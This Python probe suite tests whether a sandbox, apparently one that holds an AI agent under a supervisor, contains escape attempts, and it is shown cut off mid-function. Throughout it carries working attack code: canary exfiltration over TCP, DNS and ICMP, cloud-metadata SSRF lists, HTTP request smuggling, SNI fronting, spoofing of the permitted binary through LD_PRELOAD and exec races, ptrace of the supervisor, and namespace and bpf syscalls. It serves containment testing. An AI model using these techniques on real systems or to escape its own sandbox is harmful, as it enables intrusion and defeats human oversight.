#!/usr/bin/env python3
"""Black-box probe: one attack per call, run INSIDE the sandbox under test.
usage: probe.py NAME [args]     exit 0 = contained, 1 = escaped, 2 = not applicable here
Only the lab's own addresses and loopback are ever contacted. Python 3.8+, standard library only.
Environment (set by the runner; defaults in brackets):
  LAB_IP, LAB_IP6  addresses of the lab's sinks, inside network namespaces that the runner made. Without
                   LAB_IP every probe that would send a packet answers n/a: nothing leaves a machine by accident.
  ALLOWED [allowed.test]  name that policy lets /usr/bin/curl GET /public/** and POST /public/form on (80, 443)
  DENIED  [denied.test]   name that no policy lets through   PROXY [host:port of HTTP_PROXY]
  CANARY  [the secret the runner gave to the supervisor, never to the agent]
"""
import os, sys, socket, struct, ctypes, errno, time, ssl, subprocess, json
E = os.environ.get
LAB, LAB6 = E('LAB_IP', ''), E('LAB_IP6', '::1')
ALLOWED, DENIED, CANARY = E('ALLOWED', 'allowed.test'), E('DENIED', 'denied.test'), E('CANARY', 'CANARY-0000')
PX = (E('PROXY') or (E('HTTP_PROXY') or E('http_proxy') or 'http://127.0.0.1:3128').split('//')[-1].rstrip('/')).rsplit('@')[-1].split(':')
PROXY = (PX[0], int(PX[1]) if len(PX) > 1 else 3128)
libc = ctypes.CDLL(None, use_errno=True)
T = 3.0

def out(verdict, detail=''):
    print(json.dumps({'verdict': verdict, 'detail': str(detail)[:400]}), flush=True)
    os._exit({'contained': 0, 'escaped': 1, 'n/a': 2}[verdict])
def en(e): return errno.errorcode.get(getattr(e, 'errno', 0) or 0, type(e).__name__)
def sysc(n, *a):
    r = libc.syscall(ctypes.c_long(n), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    return (r, 0) if r >= 0 else (-1, ctypes.get_errno())
def judge_reply(b):
    "the lab's sinks answer SINK-OK; anything else (policy 403, reset, silence) is contained"
    if b'SINK-OK' in b: out('escaped', b[:120])
    out('contained', b[:120])
def rx(s, n=4096):
    b = b''; s.settimeout(T)
    try:
        while len(b) < n:
            d = s.recv(n)
            if not d: break
            b += d
            if b'SINK-OK' in b: break
    except OSError: pass
    return b
def http(host, path='/x?exfil=' + CANARY): return f'GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n'.encode()
def sock(fam=socket.AF_INET, typ=socket.SOCK_STREAM, proto=0):
    try: s = socket.socket(fam, typ, proto)
    except OSError as e: out('contained', 'socket() ' + en(e))
    s.settimeout(T); return s
def tcp(ip, port, data=None, fam=socket.AF_INET, proto=0):
    s = sock(fam, socket.SOCK_STREAM, proto)
    try: s.connect((ip, port)); s.sendall(data or http(ip))
    except OSError as e: out('contained', 'connect ' + en(e))
    judge_reply(rx(s))
def denied_sys(r, ok=('EPERM', 'EACCES', 'ENOSYS')):
    if r[0] >= 0: out('escaped', f'returned {r[0]}')
    out('contained', errno.errorcode.get(r[1], r[1]))
def px(payload, read=True, until=None):
    "raw bytes to the explicit proxy; n/a where there is none"
    s = sock()
    try: s.connect(PROXY)
    except OSError as e: out('n/a', f'no explicit proxy at {PROXY}: {en(e)}')
    try: s.sendall(payload)
    except OSError: pass
    return (s, rx(s) if read else b'')
def px_judge(payload): judge_reply(px(payload)[1])
def connect(target, then=b''):
    "CONNECT target; if granted send `then` and judge what comes back"
    s = sock()
    try: s.connect(PROXY)
    except OSError as e: out('n/a', f'no explicit proxy at {PROXY}: {en(e)}')
    t = target if isinstance(target, bytes) else target.encode()
    s.sendall(b'CONNECT ' + t + b' HTTP/1.1\r\nHost: ' + t + b'\r\n\r\n'); s.settimeout(T)
    b = b''
    try:
        while b'\r\n\r\n' not in b:
            d = s.recv(1024)
            if not d: break
            b += d
    except OSError: pass
    if b' 200' not in b[:16]: out('contained', b[:100])
    if then: s.sendall(then)
    return s
def tls(s, sni, verify=False, alpn=None):
    c = ssl._create_unverified_context()
    if alpn: c.set_alpn_protocols(alpn)
    try: return c.wrap_socket(s, server_hostname=sni) if sni else c.wrap_socket(s)
    except (OSError, ssl.SSLError) as e: out('contained', 'tls ' + str(e)[:80])
def dnsq(name, typ=16, tid=0x4242):
    return struct.pack('>HHHHHH', tid, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', typ, 1)
P = {}
def p(f): P[f.__name__.replace('_', '-')] = f; return f

# ---- L3/L4: no proxy variables honoured -------------------------------------------------
@p
def tcp4(port='80', ip=LAB): tcp(ip, int(port))
@p
def tcp6(port='80', ip=LAB6): tcp(ip, int(port), fam=socket.AF_INET6)
@p
def tcp6_mapped(port='80'): tcp('::ffff:' + LAB, int(port), fam=socket.AF_INET6)
@p
def tcp_meta(): tcp('169.254.169.254', 80, b'GET /latest/meta-data/iam/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n')
@p
def tcp_fastopen(port='80'):
    s = sock()
    try: s.sendto(http(LAB), 0x20000000, (LAB, int(port)))
    except OSError as e: out('contained', 'sendto(MSG_FASTOPEN) ' + en(e))
    judge_reply(rx(s))
@p
def mptcp(port='80'): tcp(LAB, int(port), proto=262)
@p
def udp(port='443', ip=LAB):
    s = sock(typ=socket.SOCK_DGRAM)
    try: s.sendto(b'exfil ' + CANARY.encode(), (ip, int(port)))
    except OSError as e: out('contained', 'sendto ' + en(e))
    try: judge_reply(s.recv(500))
    except OSError as e: out('contained', 'no answer: ' + en(e))
@p
def udp6(port='443'):
    s = sock(socket.AF_INET6, socket.SOCK_DGRAM)
    try: s.sendto(b'exfil', (LAB6, int(port))); judge_reply(s.recv(500))
    except OSError as e: out('contained', en(e))
@p
def icmp():
    s = sock(typ=socket.SOCK_DGRAM, proto=1)
    try: s.sendto(struct.pack('>BBHHH', 8, 0, 0, 1, 1) + CANARY.encode(), (LAB, 0)); d = s.recv(500)
    except OSError as e: out('contained', en(e))
    out('escaped', 'echo reply ' + d[:16].hex())
@p
def raw_ip():
    try: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    except OSError as e: out('contained', en(e))
    out('escaped', 'raw socket')
@p
def packet():
    try: socket.socket(17, socket.SOCK_RAW, 0x0300)
    except OSError as e: out('contained', en(e))
    out('escaped', 'AF_PACKET socket')
@p
def sctp():
    try: s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(T); s.connect((LAB, 80)); out('escaped', 'sctp')
    except OSError as e: out('contained', en(e))
@p
def vsock():
    "creation only: nothing is sent to the hypervisor"
    try: socket.socket(40, socket.SOCK_STREAM)
    except OSError as e: out('contained', en(e))
    out('escaped', 'AF_VSOCK socket')
@p
def af_alg():
    try: socket.socket(38, socket.SOCK_SEQPACKET)
    except OSError as e: out('contained', en(e))
    out('escaped', 'AF_ALG socket (kernel surface)')
@p
def netlink_route():
    "add an address to lo in our own namespace: proof of CAP_NET_ADMIN over it"
    try:
        s = socket.socket(16, socket.SOCK_RAW, 0); s.bind((0, 0))
        s.send(struct.pack('<IHHII', 32, 20, 0x605, 1, 0) + struct.pack('<BBBBI', 2, 32, 0, 254, 1) + struct.pack('<HH', 8, 2) + socket.inet_aton('127.77.0.1')); d = s.recv(4096); e = struct.unpack_from('<i', d, 16)[0]
    except OSError as x: out('contained', en(x))
    out('contained', errno.errorcode.get(-e, e)) if e else out('escaped', 'RTM_NEWADDR accepted')
@p
def nft_flush():
    try: r = subprocess.run(['nft', 'flush', 'ruleset'], capture_output=True, text=True, timeout=10)
    except OSError as e: out('contained', 'no nft: ' + en(e))
    out('escaped', 'flushed') if r.returncode == 0 else out('contained', r.stderr[:100])
@p
def iouring():
    b = ctypes.create_string_buffer(120); r = sysc(425, 8, b)
    denied_sys(r)
@p
def bind_wild(port='31337'):
    "listening on every address must not be reachable from outside; the runner checks by connecting to it"
    s = sock(); s.setsockopt(1, 2, 1)
    try: s.bind(('0.0.0.0', int(port))); s.listen()
    except OSError as e: out('contained', en(e))
    s.settimeout(5)
    try: s.accept(); out('escaped', 'a peer from outside connected')
    except OSError: out('contained', 'nobody could connect')
# ---- DNS ----------------------------------------------------------------------------------
@p
def dns_udp(name=None, server='8.8.8.8'):
    s = sock(typ=socket.SOCK_DGRAM)
    try: s.sendto(dnsq(name or f'{CANARY.lower()}.{DENIED}'), (server, 53)); d = s.recv(600)
    except OSError as e: out('contained', en(e))
    rc, an = d[3] & 15, struct.unpack_from('>H', d, 6)[0]
    out('escaped', f'rcode {rc} answers {an}') if an else out('contained', f'rcode {rc}, no answer')
@p
def dns_tcp(server=LAB):
    s = sock(); q = dnsq(f'{CANARY.lower()}.{DENIED}')
    try: s.connect((server, 53)); s.sendall(struct.pack('>H', len(q)) + q); d = s.recv(600)
    except OSError as e: out('contained', en(e))
    out('escaped', d[:20].hex()) if len(d) > 8 and struct.unpack_from('>H', d, 8)[0] else out('contained', 'no answer')
@p
def dns_libc(name=None):
    n = name or f'{CANARY.lower()}.{DENIED}'
    try: out('escaped', socket.getaddrinfo(n, 80)[0][4])
    except OSError as e: out('contained', e)
@p
def dns_label_tunnel():
    "queries whose labels carry data under a permitted zone that is permitted only as an exact host"
    ok, end = 0, time.time() + 40
    for i in range(50):
        if time.time() > end: break
        try: socket.getaddrinfo(f'{i:02d}{os.urandom(12).hex()}.{ALLOWED}', 80); ok += 1
        except OSError: pass
    out('escaped', f'{ok} answered') if ok else out('contained', 'none answered')
@p
def dot(): tcp(LAB, 853)
@p
def mdns():
    s = sock(typ=socket.SOCK_DGRAM)
    try: s.sendto(dnsq(f'{CANARY.lower()}.local', 1), ('224.0.0.251', 5353)); d = s.recv(500); out('escaped', 'multicast answer')
    except OSError as e: out('contained', en(e))
# ---- explicit proxy: who is asked for and who is dialled ---------------------------------
@p
def px_get_denied(): px_judge(f'GET http://{DENIED}/x HTTP/1.1\r\nHost: {DENIED}\r\nConnection: close\r\n\r\n'.encode())
@p
def px_connect_denied(): judge_reply(rx(connect(f'{DENIED}:80', http(DENIED))))
@p
def px_connect_ip(): judge_reply(rx(connect(f'{LAB}:80', http(ALLOWED))))
@p
def px_connect_port(port='22'): judge_reply(rx(connect(f'{ALLOWED}:{port}', b'SSH-2.0-x\r\n')))
@p
def px_host_forms(which='all'):
    "every spelling must be refused (it is not the permitted name) or dial the permitted name only"
    forms = [f'{DENIED}\x00.{ALLOWED}', f'{DENIED}#.{ALLOWED}', f'{DENIED}?.{ALLOWED}', f'{DENIED}/.{ALLOWED}', f'{ALLOWED}@{DENIED}', f'{DENIED}%00.{ALLOWED}', f'{DENIED} .{ALLOWED}', f'{DENIED}\t.{ALLOWED}', f'x{ALLOWED}', f'{ALLOWED}.{DENIED}', DENIED.upper(), DENIED + '.', f'[{LAB}]', f'[::ffff:{LAB}]', DENIED.replace('.', '\uff0e'), DENIED.replace('.', '\u3002')]
    bad = []
    for f in forms:
        s = socket.socket(); s.settimeout(T)
        try: s.connect(PROXY)
        except OSError as e: out('n/a', en(e))
        t = f.encode() + b':80'
        try:
            s.sendall(b'CONNECT ' + t + b' HTTP/1.1\r\nHost: ' + t + b'\r\n\r\n'); b = s.recv(200)
            if b' 200' in b[:16]:
                s.sendall(http(DENIED)); r = rx(s)
                if b'SINK-OK' in r and DENIED.encode() in r: bad.append(repr(f))
        except OSError: pass
        s.close()
    out('escaped', bad) if bad else out('contained', f'{len(forms)} forms')
@p
def px_ip_forms():
    "internal addresses in every notation, as CONNECT and absolute-form"
    ips = ['127.0.0.1', '127.1', '2130706433', '0x7f000001', '0177.0.0.1', '017700000001', '0', '0.0.0.0', '[::1]', '[::]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.254.43518', '[::ffff:169.254.169.254]', '[fd00:ec2::254]', '[64:ff9b::a9fe:a9fe]', '[2002:a9fe:a9fe::]', '100.100.100.200', '192.0.0.192', 'localhost', 'localhost.', 'LOCALHOST', 'metadata.google.internal', 'instance-data', '10.0.0.1', '172.17.0.1', '192.168.0.1', '100.64.0.1', '[fe80::1]', '224.0.0.1', '255.255.255.255', '198.18.0.1']
    bad = []
    for i in ips:
        for pay in (f'CONNECT {i}:80 HTTP/1.1\r\nHost: {i}:80\r\n\r\n', f'GET http://{i}/latest/meta-data/ HTTP/1.1\r\nHost: {i}\r\nConnection: close\r\n\r\n'):
            s = socket.socket(); s.settimeout(T)
            try: s.connect(PROXY)
            except OSError as e: out('n/a', en(e))
            try: s.sendall(pay.encode()); b = s.recv(300)
            except OSError: b = b''
            s.close()
            if b' 200' in b[:16] or b'SINK-OK' in b: bad.append(i + ' ' + pay.split()[0])
    out('escaped', bad) if bad else out('contained', f'{len(ips)} addresses x 2')
@p
def px_self(): judge_200 = px(f'CONNECT {PROXY[0]}:{PROXY[1]} HTTP/1.1\r\nHost: x\r\n\r\n'.encode())[1]; out('escaped', 'proxy tunnels to itself') if b' 200' in judge_200[:16] else out('contained', judge_200[:60])
@p
def px_host_mismatch(): px_judge(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {DENIED}\r\nConnection: close\r\n\r\n'.encode()) if False else judge_named(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {DENIED}\r\nConnection: close\r\n\r\n'.encode())
def judge_named(pay, bad=None):
    "the sink answers 'SINK-OK host=<Host it saw> path=<path it saw>'; escaped when it saw DENIED or a path outside /public"
    b = px(pay)[1]; judge_seen(b, bad)
def judge_seen(b, bad=None):
    for l in b.split(b'\n'):
        if b'SINK-OK' in l:
            h = l.split(b'host=')[-1].split()[0] if b'host=' in l else b''
            q = l.split(b'path=')[-1].split()[0] if b'path=' in l else b''
            if DENIED.encode() in h.lower() or (q and not q.startswith(b'/public')) or (bad and bad in l): out('escaped', l[:160])
    out('contained', b[:100])
@p
def px_two_hosts(): judge_named(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {ALLOWED}\r\nHost: {DENIED}\r\nConnection: close\r\n\r\n'.encode())
@p
def px_host_space(): judge_named(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost : {DENIED}\r\nHost: {ALLOWED}\r\nConnection: close\r\n\r\n'.encode())
@p
def px_obs_fold(): judge_named(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nX: a\r\n Host: {DENIED}\r\nHost: {ALLOWED}\r\nConnection: close\r\n\r\n'.encode())
@p
def px_paths():
    "policy: GET /public/** only. The upstream sink reports the path it was given."
    forms = ['/public/../secret', '/public/%2e%2e/secret', '/public/..%2fsecret', '/public/..;/secret', '/public/..;x=1/secret', '//secret', '/./secret', '/%73ecret', '/public/%252e%252e/secret', '/public\\..\\secret', '/public/.//../../secret', '/Public/../secret', '/PUBLIC/a', '/public/%00/../../secret', '/public/a%0d%0aX:%20y', '/public/..%c0%afsecret', '/public/%2e%2e%2fsecret', '/secret#/public/', '/secret?/public/', '/public%2f..%2fsecret', '/;/secret', '/public/..%5csecret', '*']
    bad = []
    for f in forms:
        s = socket.socket(); s.settimeout(T)
        try: s.connect(PROXY)
        except OSError as e: out('n/a', en(e))
        try: s.sendall(f'GET http://{ALLOWED}{f} HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: close\r\n\r\n'.encode()); b = rx(s)
        except OSError: b = b''
        s.close()
        if b'SINK-OK' in b and b'path=' in b:
            q = b.split(b'path=')[-1].split()[0].decode('latin1'); n = q.split('?')[0]
            from urllib.parse import unquote
            import posixpath
            d = n
            for _ in range(3): d = unquote(d, 'latin1')
            d = posixpath.normpath('/' + '/'.join(x.split(';')[0] for x in d.replace('\\', '/').split('/')).lstrip('/'))
            if not d.startswith('/public'): bad.append(f'{f} -> {q}')
    out('escaped', bad) if bad else out('contained', f'{len(forms)} paths')
@p
def px_method(m='POST'): judge_named(f'{m} http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 5\r\nConnection: close\r\n\r\nexfil'.encode(), bad=f'method={m}'.encode())
@p
def px_method_override(): judge_named(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {ALLOWED}\r\nX-HTTP-Method-Override: DELETE\r\nConnection: close\r\n\r\n'.encode(), bad=b'override=DELETE')
SM = f'GET /secret HTTP/1.1\r\nHost: {ALLOWED}\r\nX-S: '
def smuggle(head, body):
    b = px(f'{head}\r\n\r\n'.encode() + body)[1]; judge_seen(b, bad=b'path=/secret')
@p
def sm_cl_te(): smuggle(f'POST http://{ALLOWED}/public/form HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: {len(SM)+5}\r\nTransfer-Encoding: chunked', b'0\r\n\r\n' + SM.encode())
@p
def sm_te_cl(): smuggle(f'POST http://{ALLOWED}/public/form HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked', f'{len(SM):x}\r\n{SM}\r\n0\r\n\r\n'.encode())
@p
def sm_te_obfuscated():
    for te in ('Transfer-Encoding: xchunked', 'Transfer-Encoding : chunked', 'Transfer-Encoding:\x0bchunked', 'Transfer-Encoding: chunked, identity', 'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked', 'X: y\nTransfer-Encoding: chunked'):
        b = px(f'POST http://{ALLOWED}/public/form HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: {len(SM)+5}\r\n{te}\r\n\r\n'.encode() + b'0\r\n\r\n' + SM.encode())[1]
        if b'path=/secret' in b: out('escaped', te)
    out('contained')
@p
def sm_two_cl(): smuggle(f'POST http://{ALLOWED}/public/form HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: 0\r\nContent-Length: {len(SM)}', SM.encode())
@p
def sm_http10_te(): smuggle(f'POST http://{ALLOWED}/public/form HTTP/1.0\r\nHost: {ALLOWED}\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive', b'0\r\n\r\n' + SM.encode() + b'x\r\n\r\n')
@p
def sm_upgrade(): smuggle(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade\r\nUpgrade: foo', f'GET /secret HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n'.encode())
@p
def sm_pipeline(): smuggle(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {ALLOWED}', f'GET http://{ALLOWED}/secret HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: close\r\n\r\n'.encode())
@p
def sm_chunk_ext(): smuggle(f'POST http://{ALLOWED}/public/form HTTP/1.1\r\nHost: {ALLOWED}\r\nTransfer-Encoding: chunked', b'0;\nxx\r\n\r\n' + SM.encode() + b'x\r\n\r\n')
@p
def sm_get_body(): smuggle(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {ALLOWED}\r\nContent-Length: {len(SM)+6}', SM.encode() + b'x\r\n\r\n')
@p
def h2c_prior():
    s = connect(f'{ALLOWED}:80', b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + b'\0\0\0\x04\0\0\0\0\0'); b = rx(s)
    out('escaped', 'upstream saw the h2 preface') if b'SINK-OK' in b and b'PRI' in b else out('contained', b[:80])
@p
def h2c_upgrade(): judge_seen(px(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n'.encode())[1], bad=b'upgrade=h2c')
@p
def ws_tunnel():
    "a WebSocket upgrade the upstream refuses (200) must not turn the connection into a raw tunnel"
    judge_seen(px(f'GET http://{ALLOWED}/public/ws HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\nGET /secret HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n'.encode())[1], bad=b'path=/secret')
@p
def plain_in_tunnel(): judge_seen(rx(connect(f'{ALLOWED}:443', http(DENIED, '/secret'))))
@p
def crlf_header(): judge_seen(px(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {ALLOWED}\r\nX-A: 1\rHost: {DENIED}\r\nConnection: close\r\n\r\n'.encode())[1])
# ---- TLS ----------------------------------------------------------------------------------
def tls_req(target_host, sni, host, path='/secret', alpn=None):
    s = tls(connect(f'{target_host}:443'), sni, alpn=alpn)
    try: s.sendall(http(host, path))
    except OSError as e: out('contained', en(e))
    judge_seen(rx(s))
@p
def sni_fronting(): tls_req(ALLOWED, DENIED, DENIED)
@p
def host_fronting(): tls_req(ALLOWED, ALLOWED, DENIED)
@p
def no_sni(): tls_req(ALLOWED, None, DENIED)
@p
def tls_path(): tls_req(ALLOWED, ALLOWED, ALLOWED, '/secret')
@p
def tls_direct_sni(): 
    s = sock()
    try: s.connect((LAB, 443))
    except OSError as e: out('contained', en(e))
    t = tls(s, ALLOWED)
    try: t.sendall(http(DENIED, '/secret'))
    except OSError as e: out('contained', en(e))
    judge_seen(rx(t))
@p
def tls_split_hello():
    "ClientHello in 1-byte TCP segments: SNI readers that look at the first packet only fail open"
    s = connect(f'{ALLOWED}:443'); inc, o = ssl.MemoryBIO(), ssl.MemoryBIO(); t = ssl._create_unverified_context().wrap_bio(inc, o, server_hostname=DENIED)
    try: t.do_handshake()
    except ssl.SSLWantReadError: pass
    s.setsockopt(6, 1, 1)
    for c in o.read(): s.send(bytes([c])); time.sleep(0.001)
    b = b''
    s.settimeout(T)
    try: b = s.recv(2000)
    except OSError as e: out('contained', en(e))
    out('escaped', 'server hello for the denied name') if b[:1] == b'\x16' else out('contained', b[:20].hex())
@p
def not_tls_on_443(): judge_reply(rx(connect(f'{ALLOWED}:443', b'\x00\x01exfil ' + CANARY.encode())))
# ---- identity -----------------------------------------------------------------------------
def try_allowed_as(argv, **k):
    "runs argv, which must print what GET http://ALLOWED/public/a answered through whatever path the network offers"
    try: r = subprocess.run(argv, capture_output=True, timeout=20, **k)
    except OSError as e: out('contained', en(e))
    except subprocess.TimeoutExpired: out('contained', 'timeout')
    judge_reply(r.stdout + r.stderr)
GETTER = f"import os,urllib.request as u;u.install_opener(u.build_opener(u.ProxyHandler({{'http':'http://{PROXY[0]}:{PROXY[1]}'}})));print(u.urlopen('http://{ALLOWED}/public/a',timeout=5).read())"
PY = os.path.realpath(sys.executable)
def tmpd():
    import tempfile
    return tempfile.mkdtemp()
@p
def id_python(): try_allowed_as([PY, '-c', GETTER])
@p
def id_copy():
    d = tmpd(); import shutil; shutil.copy(PY, d + '/curl'); try_allowed_as([d + '/curl', '-c', GETTER])
@p
def id_hardlink():
    d = tmpd()
    try: os.link(PY, d + '/curl')
    except OSError as e: out('contained', 'link ' + en(e))
    try_allowed_as([d + '/curl', '-c', GETTER])
@p
def id_symlink():
    d = tmpd(); os.symlink(PY, d + '/curl'); try_allowed_as([d + '/curl', '-c', GETTER])
@p
def id_argv0(): try_allowed_as(['/usr/bin/curl', '-c', GETTER], executable=PY)
@p
def id_proc_root(): try_allowed_as(['/proc/self/root' + PY, '-c', GETTER])
@p
def id_ldso():
    import glob
    l = (glob.glob('/lib64/ld-linux*') + glob.glob('/lib/ld-linux*') + glob.glob('/lib/ld-musl*') + [None])[0]
    if not l: out('n/a', 'no ld.so')
    try_allowed_as([l, PY, '-c', GETTER])
@p
def id_memfd():
    r, e = sysc(319, b'curl', 0)
    if r < 0: out('contained', 'memfd_create ' + errno.errorcode.get(e, str(e)))
    os.write(r, open(PY, 'rb').read()); os.set_inheritable(r, True); try_allowed_as([f'/proc/self/fd/{r}', '-c', GETTER], pass_fds=[r])
@p
def id_deleted():
    d = tmpd(); import shutil; shutil.copy(PY, d + '/curl'); try_allowed_as(['/bin/sh', '-c', f'({d}/curl -c "import time;time.sleep(1);{GETTER}") & sleep 0.3; rm {d}/curl; wait'])
@p
def id_connect_then_exec():
    "connect and send as python, then become the permitted binary while the proxy looks us up"
    code = f"import socket,os;s=socket.create_connection({PROXY!r},5);s.set_inheritable(True);s.sendall(b'GET http://{ALLOWED}/public/a HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\nConnection: close\\r\\n\\r\\n');p=os.dup(s.fileno());os.set_inheritable(p,True)\nif os.fork()==0:\n  import time;time.sleep(0.5);s.settimeout(4);print(s.recv(400))\nelse:os.execv('/usr/bin/curl',['curl','-s','--max-time','3','telnet://127.0.0.1:9'])"
    try_allowed_as([PY, '-c', code])
@p
def id_exec_race(n='100'):
    "TOCTOU storm: the socket's owner alternates between python and the permitted binary"
    hits = 0
    for _ in range(int(n)):
        s = socket.socket(); s.settimeout(1)
        try:
            s.connect(PROXY); s.set_inheritable(True); pid = os.fork()
            if pid == 0:
                s.sendall(f'GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: close\r\n\r\n'.encode()); os.execv('/usr/bin/curl', ['curl', '-V'])
            b = s.recv(500); hits += b'SINK-OK' in b
        except OSError: pass
        finally:
            s.close()
            try: os.waitpid(pid, 0)
            except Exception: pass
    out('escaped', f'{hits}/{n}') if hits else out('contained', f'0/{n}')
@p
def id_preload():
    "code injected into the permitted binary; needs a compiler or the ready-made preload.so beside this file"
    so = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'preload.so')
    if not os.path.exists(so): out('n/a', 'preload.so not built: cc -shared -fPIC -o preload.so preload.c')
    try_allowed_as(['/usr/bin/curl', '--version'], env={**os.environ, 'LD_PRELOAD': so, 'PX_HOST': PROXY[0], 'PX_PORT': str(PROXY[1]), 'PX_NAME': ALLOWED})
@p
def id_overwrite():
    try: open('/usr/bin/curl', 'r+b').close()
    except OSError as e: out('contained', en(e))
    out('escaped', 'permitted binary is writable')
@p
def id_ptrace_allowed():
    k = subprocess.Popen(['/usr/bin/curl', '-s', '--max-time', '3', f'http://{ALLOWED}/public/slow'], stdout=subprocess.DEVNULL); time.sleep(0.1)
    r = sysc(101, 16, k.pid, 0, 0); k.kill()
    denied_sys(r)
@p
def id_mem_write():
    k = subprocess.Popen(['/bin/sleep', '2'])
    try: os.open(f'/proc/{k.pid}/mem', os.O_RDWR)
    except OSError as e: k.kill(); out('contained', en(e))
    k.kill(); out('escaped', 'may write the memory of a sibling')
# ---- processes, kernel surface --------------------------------------------------------------
@p
def sup_ptrace(): 
    r = [(p_, sysc(101, 16, int(p_), 0, 0)) for p_ in ('1', str(os.getppid()))]
    out('escaped', r) if any(x[1][0] >= 0 for x in r) else out('contained', [(a, errno.errorcode.get(b[1])) for a, b in r])
@p
def sup_kill():
    "signal 0 to every pid we can name that is not ours"
    me, hit = os.getuid(), []
    for q in range(1, 400):
        if q in (os.getpid(), os.getppid()): continue
        try: os.kill(q, 0); hit.append(q)
        except OSError: pass
    foreign = []
    for q in hit:
        try:
            if 'supervisor' in open(f'/proc/{q}/comm').read(): foreign.append(q)
        except OSError: pass
    out('escaped', foreign) if foreign else out('contained', f'{len(hit)} own pids')
@p
def sup_environ():
    bad = []
    for q in os.listdir('/proc'):
        if q.isdigit():
            try:
                if b'IN_SANDBOX=1' in open(f'/proc/{q}/environ', 'rb').read() + open(f'/proc/{q}/cmdline', 'rb').read(): continue   # the suite itself
            except OSError: pass
            for f in ('environ', 'cmdline', 'maps'):
                try:
                    if CANARY.encode() in open(f'/proc/{q}/{f}', 'rb').read(): bad.append(f'{q}/{f}')
                except OSError: pass
    out('escaped', bad) if bad else out('contained')
@p
def sup_fds():
    "descriptors inherited from the supervisor"
    x = []
    for f in os.listdir('/proc/self/fd'):
        try: int(f) > 2 and x.append((f, os.readlink(f'/proc/self/fd/{f}')))
        except FileNotFoundError: pass   # the one that listed the folder
    x = [i for i in x if not i[1].endswith('/fd')]
    bad = [i for i in x if 'socket:' in i[1] or 'anon_inode' in i[1] or i[1].startswith('/')]
    out('escaped', bad) if bad else out('contained', x)
@p
def pidfd_getfd(): 
    r = sysc(434, os.getppid(), 0)
    if r[0] < 0: out('contained', 'pidfd_open ' + errno.errorcode.get(r[1], ''))
    q = sysc(438, r[0], 0, 0); s = sysc(434, 1, 0); z = sysc(438, s[0], 0, 0) if s[0] >= 0 else (-1, s[1])
    out('escaped', 'took a descriptor of pid 1') if z[0] >= 0 else out('contained', errno.errorcode.get(z[1]))
@p
def userns(): denied_sys(sysc(272, 0x10000000))
@p
def netns(): denied_sys(sysc(272, 0x40000000))
@p
def clone3_userns():
    b = ctypes.create_string_buffer(struct.pack('<QQQQQQQQ', 0x10000000, 0, 0, 0, 17, 0, 0, 0)); r = sysc(435, b, 64)
    if r[0] == 0: os._exit(0)
    denied_sys(r)
@p
def setns_pid1():
    try: fd = os.open('/proc/1/ns/net', os.O_RDONLY)
    except OSError as e: out('contained', en(e))
    denied_sys(sysc(308, fd, 0x40000000))
@p
def bpf(): 
    b = ctypes.create_string_buffer(struct.pack('<IIII', 2, 4, 4, 1) + b'\0' * 100); denied_sys(sysc(321, 0, b, 72))
@p
def perf(): 
    b = ctypes.create_string_buffer(struct.pack('<IIQ', 1, 120, 0) + b'\0' * 110); denied_sys(sysc(298, b, 0, -1, -1, 0))
@p
def keyring(): 
    r = sysc(248, b'user', b'hs', b'x', 1, -3); denied_sys(r)
@p
def uffd(): denied_sys(sysc(323, 1))
@p
def mount_tmpfs(): 
    r = libc.mount(b't', b'/tmp', b'tmpfs', 0, None); out('escaped', 'mounted') if r == 0 else out('contained', errno.errorcode[ctypes.get_errno()])
@p
def new_mount_api(): denied_sys(sysc(430, b'tmpfs', 0))
@p
def umount_proc(): 
    r = libc.umount2(b'/proc', 2); out('escaped', 'umounted') if r == 0 else out('contained', errno.errorcode[ctypes.get_errno()])
@p
def mknod_disk():
    try: os.mknod('/tmp/hs-sda', 0o60600, os.makedev(8, 0)); f = os.open('/tmp/hs-sda', os.O_RDONLY); out('escaped', 'block device opened')
    except OSError as e: out('contained', en(e))
@p
def i386_abi():
